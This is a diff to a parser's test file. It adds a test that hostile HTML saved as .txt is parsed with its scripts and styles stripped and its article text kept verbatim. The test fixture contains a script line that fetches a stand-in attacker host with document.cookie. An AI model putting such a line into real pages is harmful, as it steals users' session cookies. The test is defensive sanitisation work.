@@ -293,6 +293,17 @@ describe('a page saved as .txt', () => {
     for (const s of a.sentences) expect(isVerbatim(RAW, quoteOf(a, s.start, s.end))).toBe(true);
   });
 
+  it('hostile markup saved as .txt: scripts and styles are dropped, broken tags lose no text', () => {
+    const raw = '<div><script>fetch("http://evil.example/?"+document.cookie)</script><style>p{display:none}</style><p>@everyone The quay reopened on Friday, the harbour office said.</p><p>Ships queued for <b>six hours before the gates opened.</div>';
+    const a = parseArticle('page.txt', raw);
+    expect(a.format).toBe('html');
+    const all = a.sentences.map((s) => s.text).join('\n');
+    expect(all).not.toMatch(/evil\.example|cookie|display:none|<\/?\w/);
+    expect(all).toContain('The quay reopened on Friday, the harbour office said.');
+    expect(all).toContain('Ships queued for six hours before the gates opened.');
+    for (const s of a.sentences) expect(isVerbatim(raw, quoteOf(a, s.start, s.end))).toBe(true);
+  });
+
   it('plain text that mentions a tag, or opens with one and never closes a block, stays text', () => {
     expect(parseArticle('notes.txt', 'Use the <p> tag for paragraphs.\n\nThat is all.').format).toBe('txt');
     expect(parseArticle('odd.txt', '<p>One line of text that never closes its paragraph.\n\nAnother line.').format).toBe('txt');
